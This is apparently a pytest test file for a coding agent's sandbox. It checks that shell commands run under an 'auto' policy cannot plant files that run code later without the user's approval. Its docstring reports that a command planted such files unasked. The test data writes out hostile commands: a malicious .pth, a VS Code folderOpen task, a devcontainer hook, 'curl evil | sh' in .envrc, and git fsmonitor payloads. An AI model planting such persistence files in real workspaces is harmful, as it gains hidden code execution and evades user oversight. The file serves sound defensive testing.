"""Issue 21, attacks 2 and 6: a sandboxed command wrote what the patch tool protects.
Under `auto`, unasked, it planted a `.pth` in a virtualenv named `env`, editor tasks
(`.vscode/tasks.json` with `runOn: folderOpen`), `.devcontainer`, `.idea`,
`.pre-commit-config.yaml`, `.envrc`, `sitecustomize.py`, `.github/workflows`, and ran
`git init && git config core.fsmonitor <payload>` in a workspace with no `.git` (the
next `@` completion ran the payload through rivulet's own git). Now a protected path a
command creates or changes is asked about, as a patch would be, and undone unless kept;
one that exists is read-only in the sandbox. Each attack runs as root and as nobody."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from as_user import User, sandboxed_or_honest, user


@pytest.fixture(params=["root", "nobody"])
def who(request) -> User:
    return user(request.param)


@pytest.fixture
def ws(who: User):
    path = who.directory()
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _venv_env(ws: Path) -> None:
    (ws / "env" / "lib" / "python3.11" / "site-packages").mkdir(parents=True)
    (ws / "env" / "pyvenv.cfg").write_text("home = /usr/bin\n")


# name: (prepare the workspace, the command, what must not be there afterwards)
ATTACKS = {
    "pth_in_venv_named_env": (_venv_env, "echo 'import os; os.system(\"touch /tmp/pwned\")' > "
                              "env/lib/python3.11/site-packages/zz.pth", "env/lib/python3.11/site-packages/zz.pth"),
    "vscode_tasks": (None, "mkdir -p .vscode && printf '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' "
                     "> .vscode/tasks.json", ".vscode"),
    "devcontainer": (None, "mkdir .devcontainer && echo '{\"postCreateCommand\":\"id\"}' > "
                     ".devcontainer/devcontainer.json", ".devcontainer"),
    "idea": (None, "mkdir .idea && echo '<project/>' > .idea/workspace.xml", ".idea"),
    "pre_commit": (None, "printf 'repos: []\\n' > .pre-commit-config.yaml", ".pre-commit-config.yaml"),
    "envrc": (None, "echo 'curl evil | sh' > .envrc", ".envrc"),
    "sitecustomize": (None, "echo 'import os' > sitecustomize.py", "sitecustomize.py"),
    "github_workflow": (lambda ws: (ws / ".github").mkdir(), "mkdir -p .github/workflows && "
                        "echo 'on: push' > .github/workflows/x.yml", ".github/workflows"),
    "git_init_fsmonitor": (None, "git init -q && git config core.fsmonitor 'touch /tmp/pwned'", ".git"),
}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_a_command_cannot_plant_what_runs_code_later(who, ws, attack):
    prepare, command, target = ATTACKS[attack]
    if prepare is not None:
        prepare(ws)
        for path in ws.rglob("*"):
            who.give(path)
    result = who.drive({"workspace": str(ws), "command": command, "policy": "auto"})
    if not sandboxed_or_honest(who, result):
        return
    assert not (ws / target).exists(), f"{target} is there: {result['output']}"
    if result["asked"]:  # it was created: asked about, as a patch to it would be, then undone
        assert len(result["asked"]) == 1 and result["asked"][0]["protected"], result["asked"]
        assert target in result["asked"][0]["title"]
        assert "undid" in result["output"] and f"{target}: removed" in result["output"]
        assert result["notices"] and target in result["notices"][0]
    else:  # it existed: read-only in the sandbox, the write failed
        assert "Read-only file system" in result["output"] or "Exit code: 0" not in result["output"]


def test_a_worktrees_git_file_cannot_be_pointed_elsewhere(who, ws):
    (ws / "real.git").mkdir()
    (ws / ".git").write_text("gitdir: real.git\n")
    (ws / "real.git" / "config").write_text("[core]\n")
    for path in ws.rglob("*"):
        who.give(path)
    result = who.drive({"workspace": str(ws), "command": "printf 'gitdir: evil\\n' > .git; "
                        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > real.git/config; echo done"})
    if not sandboxed_or_honest(who, result):
        return
    assert (ws / ".git").read_text() == "gitdir: real.git\n"
    assert (ws / "real.git" / "config").read_text() == "[core]\n"


def test_what_the_user_keeps_stays_and_the_model_is_told(who, ws):
    result = who.drive({"workspace": str(ws), "command": "mkdir .vscode && echo '{}' > .vscode/settings.json",
                        "policy": "auto", "answers": ["yes"]})
    if not sandboxed_or_honest(who, result):
        return
    assert (ws / ".vscode" / "settings.json").read_text() == "{}\n"
    assert len(result["asked"]) == 1 and "+{}" in result["asked"][0]["detail"]
    assert "chose to keep" in result["output"]


def test_never_ask_asks_nothing_and_keeps_it(who, ws):
    result = who.drive({"workspace": str(ws), "command": "echo x > .envrc", "policy": "never-ask"})
    if not sandboxed_or_honest(who, result):
        return
    assert result["asked"] == [] and (ws / ".envrc").read_text() == "x\n"


def test_stop_undoes_and_stops_the_turn(who, ws):
    result = who.drive({"workspace": str(ws), "command": "echo x > .envrc", "policy": "auto", "answers": ["stop"]})
    if not sandboxed_or_honest(who, result):
        return
    assert result["stopped"] and not (ws / ".envrc").exists()
    assert ".envrc: removed" in result["output"]
